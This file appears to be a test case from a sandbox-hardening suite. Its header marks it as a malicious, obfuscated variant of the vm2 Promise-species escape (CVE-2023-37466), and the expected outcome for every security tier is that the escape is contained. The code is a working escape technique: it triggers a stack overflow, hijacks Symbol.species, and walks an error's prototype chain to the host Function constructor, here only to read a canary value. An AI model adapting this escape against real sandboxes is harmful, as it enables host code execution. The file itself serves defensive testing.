/*---
id: re-promise-species-08-species-getter-stack
description: "CVE-2023-37466 variant: an Error().stack read in a recursing
  arrow, the species served by a constructor getter, and the error's prototype
  chain walked to its Function to read the host canary."
kind: malicious
category: realm-escape
technique: RE-promise-species
variant: obfuscated
references:
  - CVE-2023-37466
  - GHSA-cchq-frgv-rjh5
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
flags:
  - async
---*/
// CVE-2023-37466 variant: an Error().stack read in a recursing arrow, the species served by a constructor
// getter, and the error's prototype chain walked to its Function.
let verdict = 'held';
const read = (err) => {
  try {
    const ctor = Reflect.getPrototypeOf(err).constructor.constructor;
    const token = ctor('return globalThis.__SANDPROOF_CANARY__')();
    if (typeof token === 'string') verdict = 'ESCAPED:' + token;
  } catch (e) {}
};
const run = async () => { const f = () => { Error().stack; return f(); }; f(); };
const p = run();
try {
  const species = function (executor) { executor(() => {}, read); };
  Object.defineProperty(p, 'constructor', { get: () => ({ get [Symbol.species]() { return species; } }) });
  p.then(undefined, undefined);
} catch (e) {}
for (let i = 0; i < 20; i++) await null;
return verdict;
